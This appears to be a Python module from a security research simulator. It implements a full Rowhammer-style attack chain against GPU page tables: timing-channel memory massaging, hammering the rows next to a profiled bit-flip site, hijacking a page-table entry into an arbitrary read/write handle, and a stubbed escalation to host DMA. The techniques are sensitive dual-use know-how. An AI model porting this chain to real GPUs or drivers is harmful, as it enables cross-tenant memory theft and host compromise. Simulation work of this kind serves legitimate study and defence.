"""End-to-end attack chain, driven entirely through a GuestSession.

The engine never reads simulator state.  Everything it "knows" beyond its
own session surface is attacker knowledge under the threat model: the
profiled flip sites, the DRAM address mapping, and the allocator's carve
arithmetic (replayed on a private RegionCursor mirror).  Placement of the
engine's own resident pages comes from the session's resolve_rows
capability; everything else is inferred from latencies and free-memory
deltas.

Phases: fill the device, phase-lock the table-region period off the
eviction timing channel, steer a region onto the vulnerable frame, pack it
with valid entries, hammer and scan for the misdirected read, then steer a
second region under the corrupted mapping and rewrite entries through it.
"""

from __future__ import annotations

import copy
import random
import statistics
from dataclasses import dataclass, field

from .device_memory import (BitFlipSite, DramGeometry, GpuDmaCapability,
                            eligible_flips)
from .guest import DeviceFault, GuestSession
from .uvm_allocator import (RegionCursor, PAGE_2M, PAGE_64K, PAGE_4K,
                            allocations_to_next_pt_region)
from . import page_table as pt

TAIL_ALLOC = PAGE_2M + PAGE_4K
SLICES = 32


class AttackFailure(Exception):
    pass


class MassageFailure(AttackFailure):
    pass


class DensityFailure(AttackFailure):
    pass


class EscalationFailure(AttackFailure):
    pass


@dataclass
class AttackConfig:
    chosen_site: BitFlipSite | None = None    # None: first viable eligible site
    spike_factor: float = 10.0                 # spike = latency > factor * running median
    max_step3_retries: int = 16
    keepalive_interval: int = 64
    reshuffle_pages: int = 1024
    dense_budget: int = (16 << 30) + TAIL_ALLOC
    full_density: bool = True                  # pack the whole target region
    seed: int = 0


@dataclass
class AttackState:
    phase: str = "fill"
    corrupted_va: int | None = None
    destination_va: int | None = None
    retries: int = 0


@dataclass
class ScanOutcome:
    kind: str                        # "no_flip" | "foreign_destination" | "own_destination"
    destination_va: int | None = None
    corrupted_va: int | None = None


class ArbitraryRW:
    """Device-memory read/write handle built from a controlled table entry.

    ``control_va`` maps the bytes of a live leaf table; rewriting the entry
    at ``control_offset`` and flushing the TLB redirects ``window_va`` to
    any chosen frame.
    """

    def __init__(self, sess: GuestSession, control_va: int, control_offset: int,
                 window_va: int):
        self.sess = sess
        self.control_va = control_va
        self.control_offset = control_offset
        self.window_va = window_va

    def remap(self, phys: int, aperture: int = 0) -> None:
        base = phys & ~(PAGE_64K - 1) if aperture < 2 else phys & ~0xFFF
        raw = pt.make_pte(base, aperture=aperture)
        self.sess.write_data(self.control_va + self.control_offset,
                             raw.to_bytes(8, "little"))
        self.sess.tlb_thrash()

    def read_phys(self, phys: int, length: int) -> bytes:
        out = bytearray()
        pos = phys
        while pos < phys + length:
            base = pos & ~(PAGE_64K - 1)
            take = min(phys + length - pos, PAGE_64K - (pos - base))
            self.remap(base)
            out += self.sess.read_data(self.window_va + (pos - base), take)
            pos += take
        return bytes(out)

    def write_phys(self, phys: int, data: bytes) -> None:
        pos = 0
        while pos < len(data):
            base = (phys + pos) & ~(PAGE_64K - 1)
            take = min(len(data) - pos, PAGE_64K - (phys + pos - base))
            self.remap(base)
            self.sess.write_data(self.window_va + (phys + pos - base),
                                 data[pos:pos + take])
            pos += take

    def read_host(self, host_addr: int, length: int) -> bytes:
        self.remap(host_addr & ~0xFFF, aperture=pt.APERTURE_SYS)
        return self.sess.read_data(self.window_va + (host_addr & 0xFFF), length)

    def write_host(self, host_addr: int, data: bytes) -> None:
        self.remap(host_addr & ~0xFFF, aperture=pt.APERTURE_SYS)
        self.sess.write_data(self.window_va + (host_addr & 0xFFF), data)


def tag_for(va: int) -> bytes:
    return ((va >> 16) | (0xA5 << 48)).to_bytes(8, "little")


def tag_decode(raw: bytes) -> int | None:
    v = int.from_bytes(raw, "little")
    if v >> 48 != 0xA5:
        return None
    return (v & (1 << 48) - 1) << 16


class SpikeDetector:
    """Threshold a latency stream at a multiple of its running median."""

    def __init__(self, factor: float, window: int = 33):
        self.factor = factor
        self.window = window
        self.history: list[float] = []

    def is_spike(self, value: float) -> bool:
        hist = self.history[-self.window:]
        spike = bool(hist) and value > self.factor * statistics.median(hist)
        if not spike:
            self.history.append(value)
        return spike


class AttackEngine:
    def __init__(self, sess: GuestSession, profile: list[BitFlipSite],
                 geometry: DramGeometry, config: AttackConfig | None = None):
        self.sess = sess
        self.profile = profile
        self.geometry = geometry
        self.cfg = config or AttackConfig()
        self.rng = random.Random(self.cfg.seed)
        self.state = AttackState()
        self.detector = SpikeDetector(self.cfg.spike_factor)
        self.fill_pages: list[int] = []
        self.frame_to_va: dict[int, int] = {}
        self._hole_ptr = 0
        self._protected: set[int] = set()
        self._keepalive: list[int] = []
        self._alloc_count = 0
        self.mirror: RegionCursor | None = None    # valid after phase lock
        self.dense_windows: list[dict] = []
        self._dense_hole_ptr = 0
        self._small_pages: dict[int, int] = {}     # own small pages: va -> touch size
        self._corrupt_candidate: dict | None = None
        self.site: BitFlipSite | None = None
        self.handle: ArbitraryRW | None = None
        self.capability: GpuDmaCapability | None = None
        self.phase_latency: dict[str, float] = {}
        self.log: list[str] = []

    # --------------------------------------------------------------- helpers

    def _note(self, msg: str) -> None:
        self.log.append(msg)

    def _phase(self, name: str) -> None:
        self.state.phase = name
        self.phase_latency[name] = self.sess.total_latency()

    def _keepalive_tick(self) -> None:
        self._alloc_count += 1
        if self._alloc_count % self.cfg.keepalive_interval == 0:
            for va in self._keepalive:
                self.sess.timed_touch(va, 8)

    def _open_hole(self) -> None:
        """Evict the next of our stale pages, verified by the free-memory
        delta (a page the allocator already reclaimed opens nothing).
        Falls back to old packed windows once the fill pages run out."""
        while self._hole_ptr < len(self.fill_pages):
            va = self.fill_pages[self._hole_ptr]
            self._hole_ptr += 1
            if va in self._protected:
                continue
            before = self.sess.mem_get_info()
            self.sess.cpu_touch(va, PAGE_2M)
            if self.sess.mem_get_info() >= before + PAGE_2M:
                return
        while self._dense_hole_ptr < len(self.dense_windows) - 8:
            rec = self.dense_windows[self._dense_hole_ptr]
            self._dense_hole_ptr += 1
            if rec is self._corrupt_candidate or rec["va"] in self._protected:
                continue
            before = self.sess.mem_get_info()
            self.sess.cpu_touch(rec["va"], PAGE_2M)
            if self.sess.mem_get_info() >= before + PAGE_2M - PAGE_64K:
                return
        raise MassageFailure("ran out of evictable pages for holes")

    def _ensure_headroom(self) -> None:
        if self.sess.mem_get_info() < PAGE_4K:
            self._open_hole()

    # --------------------------------------------------------------- step 1

    def step1_fill(self) -> None:
        """Fill device memory, detected by consecutive eviction spikes on
        2 MiB touches; every 64 KiB slice is tagged with its address."""
        self._phase("fill")
        consecutive = 0
        limit = (self.geometry.capacity // PAGE_2M) + 64
        for _ in range(limit):
            va = self.sess.alloc(PAGE_2M)
            lat = self.sess.timed_touch(va, PAGE_2M)
            self.fill_pages.append(va)
            for s in range(SLICES):
                self.sess.write_data(va + s * PAGE_64K, tag_for(va + s * PAGE_64K))
            if self.detector.is_spike(lat.value):
                consecutive += 1
                self._hole_ptr += 1    # the eviction consumed our oldest page
                if consecutive >= 3:
                    self._note(f"fill complete after {len(self.fill_pages)} touches")
                    return
            else:
                consecutive = 0
        raise AttackFailure("never observed fill spikes; timing model misconfigured")

    def _map_own_frames(self) -> None:
        for va in self.fill_pages[self._hole_ptr:]:
            try:
                info = self.sess.resolve_rows(va)
            except Exception:
                continue
            self.frame_to_va[info.frame_2m] = va

    # --------------------------------------------------------------- site choice

    def _site_entry_plan(self, site: BitFlipSite):
        """Where inside a fresh region the site's entry would land under the
        packing fill; None when it would hit directory bytes or the fill cap.

        -> (alloc_index, entry_index, pt_offset)
        """
        o_entry = self.geometry.site_region_offset(site) & ~7
        mirror = RegionCursor(0)
        j = 0
        while True:
            j += 1
            events = [e for e in mirror.splinter_alloc() if e[0] == "carve"]
            if mirror.regions_rolled:
                return None
            pt_off = events[-1][1]
            if len(events) > 1 and events[0][1] <= o_entry < events[0][1] + 4096:
                return None          # directory page covers the site
            if pt_off <= o_entry < pt_off + 256:
                return j, (o_entry - pt_off) // 8, pt_off

    def choose_site(self) -> BitFlipSite:
        candidates = ([self.cfg.chosen_site] if self.cfg.chosen_site
                      else eligible_flips(self.profile, self.geometry.capacity))
        self._map_own_frames()
        nf = self.geometry.frames_2m
        for site in candidates:
            fv = self.geometry.site_frame(site)
            if not all(f in self.frame_to_va for f in (fv - 1, fv, fv + 1)):
                continue
            if self._site_entry_plan(site) is None:
                continue
            jump_frames = pt.pte_bit_to_jump(site.pte_bit) // PAGE_2M
            if not (0 <= fv + jump_frames < nf or 0 <= fv - jump_frames < nf):
                continue
            self.site = site
            for f in (fv - 1, fv, fv + 1):
                self._protected.add(self.frame_to_va[f])
            self._keepalive = [self.frame_to_va[f] for f in (fv - 1, fv, fv + 1)]
            for va in self._keepalive:
                self.sess.timed_touch(va, 8)
            self._note(f"site in frame {fv}, entry plan {self._site_entry_plan(site)}")
            return site
        raise AttackFailure("no viable flip site (ownership or layout)")

    # --------------------------------------------------------------- step 2

    def _tail_alloc(self) -> bool:
        """One pattern allocation (2 MiB + 4 KiB, device-touched tail).
        -> True when the latency spiked."""
        self._ensure_headroom()
        va = self.sess.alloc(TAIL_ALLOC)
        lat = self.sess.timed_touch(va + PAGE_2M, PAGE_4K)
        self.sess.write_data(va + PAGE_2M, tag_for(va + PAGE_2M))
        self._small_pages[va + PAGE_2M] = PAGE_4K
        if self.mirror is not None:
            self.mirror.tail_alloc()
        self._keepalive_tick()
        if self.detector.is_spike(lat.value):
            self._hole_ptr += 1      # region placement evicted our oldest page
            return True
        return False

    def phase_lock(self) -> int:
        """Run the pattern until the first region-creation spike; from there
        the carve arithmetic predicts every later region exactly."""
        self._phase("massage")
        cap = allocations_to_next_pt_region(0) + 8
        for n in range(1, cap + 512):
            if self._tail_alloc():
                self.mirror = RegionCursor(0)
                self._note(f"phase locked at pattern allocation {n}")
                return n
        raise MassageFailure("no region-creation spike observed")

    def _next_alloc_rolls(self) -> bool:
        probe = copy.copy(self.mirror)
        return any(e[0] == "roll" for e in probe.tail_alloc())

    def step2_massage(self) -> None:
        """Steer the next region onto the vulnerable frame: open the target
        hole plus one spare immediately before the region-triggering
        allocation; placement follows eviction order."""
        if self.site is None:
            self.choose_site()
        if self.mirror is None:
            self.phase_lock()
        fv = self.geometry.site_frame(self.site)
        target_va = self.frame_to_va[fv]
        guard = 2 * allocations_to_next_pt_region(0) + 16
        while not self._next_alloc_rolls():
            self._tail_alloc()
            guard -= 1
            if guard <= 0:
                raise MassageFailure("mirror never predicted a region roll")
        # free the victim frame first (placement takes the earliest full slot),
        # then a spare for the triggering allocation's data
        self._protected.discard(target_va)
        self._keepalive = [va for va in self._keepalive if va != target_va]
        before = self.sess.mem_get_info()
        self.sess.cpu_touch(target_va, PAGE_2M)
        if self.sess.mem_get_info() < before + PAGE_2M:
            raise MassageFailure("vulnerable frame was not resident anymore")
        if self.sess.mem_get_info() < PAGE_2M + PAGE_4K:
            self._open_hole()       # spare room for the trigger's data page
        self._tail_alloc()          # creates the region in the target slot
        self._note("target region placed")

    # --------------------------------------------------------------- dense fill

    def _splinter_alloc(self, splinter_slice: int) -> dict:
        self._ensure_headroom()
        va = self.sess.alloc(PAGE_2M)
        lat = self.sess.timed_touch(va, PAGE_2M)
        if self.detector.is_spike(lat.value):
            self._hole_ptr += 1
        for s in range(SLICES):
            self.sess.write_data(va + s * PAGE_64K, tag_for(va + s * PAGE_64K))
        events = [e for e in self.mirror.splinter_alloc() if e[0] == "carve"]
        self.sess.cpu_touch(va + splinter_slice * PAGE_64K, PAGE_64K)
        self._keepalive_tick()
        rec = {"va": va, "pt_off": events[-1][1], "splinter": splinter_slice,
               "rolled": self.mirror.regions_rolled}
        self.dense_windows.append(rec)
        return rec

    def dense_fill(self) -> None:
        """Pack the freshly-placed region with valid entries via repeated
        2 MiB allocations splintered by one host-side slice touch."""
        self._phase("dense_fill")
        j_star, entry, _ = self._site_entry_plan(self.site)
        base_roll = self.mirror.regions_rolled
        budget = self.cfg.dense_budget
        spent = 0
        j = 0
        while True:
            j += 1
            if spent > budget:
                raise DensityFailure(f"budget exhausted after {j - 1} allocations")
            if not self.cfg.full_density and j > j_star + 24:
                self._note(f"site coverage reached after {j - 1} splinter allocations")
                return
            spl = 31
            if j == j_star:
                spl = 31 if entry != 31 else 30
            rec = self._splinter_alloc(spl)
            spent += PAGE_2M
            if j == j_star:
                self._corrupt_candidate = rec
            if self.mirror.regions_rolled > base_roll:
                if j < j_star:
                    raise DensityFailure("region rolled before covering the site")
                self._note(f"region packed by {j} splinter allocations")
                return

    # --------------------------------------------------------------- step 3

    def _hammer(self) -> None:
        fv = self.geometry.site_frame(self.site)
        self.sess.hammer_own([self.frame_to_va[fv - 1], self.frame_to_va[fv + 1]])

    def _read_tag(self, va: int) -> bytes | None:
        try:
            return self.sess.read_data(va, 8)
        except DeviceFault:
            return None

    def _candidate_va(self) -> int:
        plan = self._site_entry_plan(self.site)
        _, entry, _ = plan
        return self._corrupt_candidate["va"] + entry * PAGE_64K

    def full_scan(self) -> int | None:
        """Stream own tagged slices looking for an out-of-order identifier;
        -> the corrupted va, or None."""
        for rec in reversed(self.dense_windows):
            va = rec["va"]
            for s in range(SLICES):
                if s == rec["splinter"]:
                    continue
                slice_va = va + s * PAGE_64K
                raw = self._read_tag(slice_va)
                if raw is None:
                    return slice_va           # unreadable: misdirected beyond memory
                if raw == b"\x00" * 8:
                    break                      # window evicted; older ones are too
                decoded = tag_decode(raw)
                if decoded != slice_va:
                    return slice_va
        return None

    def step3_hammer_scan(self) -> ScanOutcome:
        """Hammer the rows flanking the packed region, then look for a read
        that lands somewhere else; retry with reshuffled frame assignments
        until the misdirected read hits our own tagged memory."""
        self._phase("hammer_scan")
        cand = self._candidate_va()
        expected = tag_for(cand)
        for attempt in range(1, self.cfg.max_step3_retries + 1):
            self.state.retries = attempt
            self._hammer()
            self.sess.tlb_thrash()
            raw = self._read_tag(cand)
            corrupted = cand
            if raw is not None and raw == expected:
                # entry intact; a flip may still have landed elsewhere
                scanned = self.full_scan() if attempt == 1 else None
                if scanned is None:
                    self._note(f"attempt {attempt}: no flip")
                    self._reshuffle()
                    continue
                corrupted = scanned
                raw = self._read_tag(corrupted)
            self.state.corrupted_va = corrupted
            dest = tag_decode(raw) if raw is not None else None
            if dest is not None and self._verify_own_destination(corrupted, dest):
                self.state.destination_va = dest
                self._phase("remassage")
                self._note(f"attempt {attempt}: destination is ours")
                return ScanOutcome("own_destination", dest, corrupted)
            self._note(f"attempt {attempt}: foreign destination")
            self._reshuffle()
        raise AttackFailure("step-3 retries exhausted")

    def _verify_own_destination(self, corrupted_va: int, dest_va: int) -> bool:
        """The tag names an address; confirm that page is ours, resident,
        and actually sits at the corrupted mapping's landing frame."""
        try:
            src = self.sess.resolve_rows(corrupted_va)
            dst = self.sess.resolve_rows(dest_va)
        except Exception:
            return False
        jump = pt.pte_bit_to_jump(self.site.pte_bit)
        return abs(dst.phys_base - src.phys_base) == jump

    def _reshuffle(self) -> None:
        """Re-roll frame assignments: evict and re-touch the most recent
        small pages in a permuted order (contents migrate with them)."""
        pool = []
        for rec in reversed(self.dense_windows):
            for s in range(SLICES):
                if s != rec["splinter"]:
                    pool.append(rec["va"] + s * PAGE_64K)
            if len(pool) >= self.cfg.reshuffle_pages:
                break
        cand = self._candidate_va()
        if cand not in pool:
            pool.append(cand)
        evicted = []
        for va in pool:
            try:
                self.sess.cpu_touch(va, PAGE_64K)
                evicted.append(va)
            except Exception:
                continue
        self.rng.shuffle(evicted)
        for va in evicted:
            self.sess.timed_touch(va, PAGE_64K)
            self._small_pages[va] = PAGE_64K

    # --------------------------------------------------------------- step 4

    def _clear_run(self, run_base: int) -> None:
        """Evict every page of ours that strayed into the 2 MiB slot at
        ``run_base`` (old fragments get recycled into tail pages and
        reshuffled slices), so the slot can assemble fully free."""
        for va, size in list(self._small_pages.items()):
            try:
                info = self.sess.resolve_rows(va)
            except Exception:
                self._small_pages.pop(va, None)
                continue
            if run_base <= info.phys_base < run_base + PAGE_2M:
                self.sess.cpu_touch(va, size)
                self._small_pages.pop(va, None)

    def step4_remassage_and_build(self) -> ArbitraryRW:
        """Free the destination page, steer the next region into its frame,
        then rewrite a live entry through the corrupted mapping and verify."""
        dest_va = self.state.destination_va
        corrupted_va = self.state.corrupted_va
        dest_info = self.sess.resolve_rows(dest_va)
        dest_offset = dest_info.phys_base % PAGE_2M
        dest_run_base = dest_info.phys_base - dest_offset
        dest_window_va = dest_va & ~(PAGE_2M - 1)
        self._protected.add(dest_window_va)
        # march the pattern to one allocation before the next region roll
        guard = 2 * allocations_to_next_pt_region(0) + 64
        while not self._next_alloc_rolls():
            self._tail_alloc()
            guard -= 1
            if guard <= 0:
                raise MassageFailure("mirror never predicted the second roll")
        self.sess.cpu_touch(dest_window_va, PAGE_2M)
        self._clear_run(dest_run_base)
        if self.sess.mem_get_info() < PAGE_2M + PAGE_4K:
            self._open_hole()
        self._tail_alloc()          # region lands in the destination frame
        # fill the new region until a leaf table covers the visible window
        mirror_roll = self.mirror.regions_rolled
        control = None
        guard = 9000
        while control is None:
            probe = copy.copy(self.mirror)
            events = [e for e in probe.splinter_alloc() if e[0] == "carve"]
            if probe.regions_rolled > mirror_roll:
                raise EscalationFailure("window offset not reachable in one region")
            pt_off = events[-1][1]
            rec = self._splinter_alloc(31)
            if pt_off >= dest_offset and pt_off + 256 <= dest_offset + PAGE_64K:
                control = (rec, pt_off)
            guard -= 1
            if guard <= 0:
                raise EscalationFailure("control fill never reached the window")
        rec, pt_off = control
        window_va = rec["va"]                      # slice 0 of the control window
        control_offset = pt_off - dest_offset      # its entry is first in the table
        handle = ArbitraryRW(self.sess, corrupted_va, control_offset, window_va)
        self._self_test(handle)
        self._phase("escalated")
        return handle

    def _self_test(self, handle: ArbitraryRW) -> None:
        probe_va = self.dense_windows[0]["va"]
        marker = b"\x5a\xc3" * 16
        self.sess.write_data(probe_va, marker)
        info = self.sess.resolve_rows(probe_va)
        handle.remap(info.phys_base & ~(PAGE_64K - 1))
        got = self.sess.read_data(handle.window_va + info.phys_base % PAGE_64K,
                                  len(marker))
        if got != marker:
            raise EscalationFailure("self-test mismatch")
        self._note("handle self-test passed")

    # --------------------------------------------------------------- host step

    def escalate_to_host(self, handle: ArbitraryRW) -> GpuDmaCapability:
        """Flip a controlled entry to the system-memory aperture; accesses
        through the window now DMA into the host's permitted region."""
        cap = GpuDmaCapability(ctx=self.sess.ctx)
        self.sess.dma_capability = cap
        return cap

    # --------------------------------------------------------------- driver

    def run(self) -> dict:
        """Full chain; -> transcript dict."""
        self.step1_fill()
        self.choose_site()
        self.step2_massage()
        self.dense_fill()
        self.step3_hammer_scan()
        handle = self.step4_remassage_and_build()
        cap = self.escalate_to_host(handle)
        self.handle = handle
        self.capability = cap
        return self.transcript()

    def transcript(self) -> dict:
        return {
            "phase": self.state.phase,
            "phase_latency": self.phase_latency,
            "retries": self.state.retries,
            "corrupted_va": self.state.corrupted_va,
            "destination_va": self.state.destination_va,
            "simulated_time_units": self.sess.total_latency(),
            "audit_ops": len(self.sess.audit),
            "notes": self.log,
        }
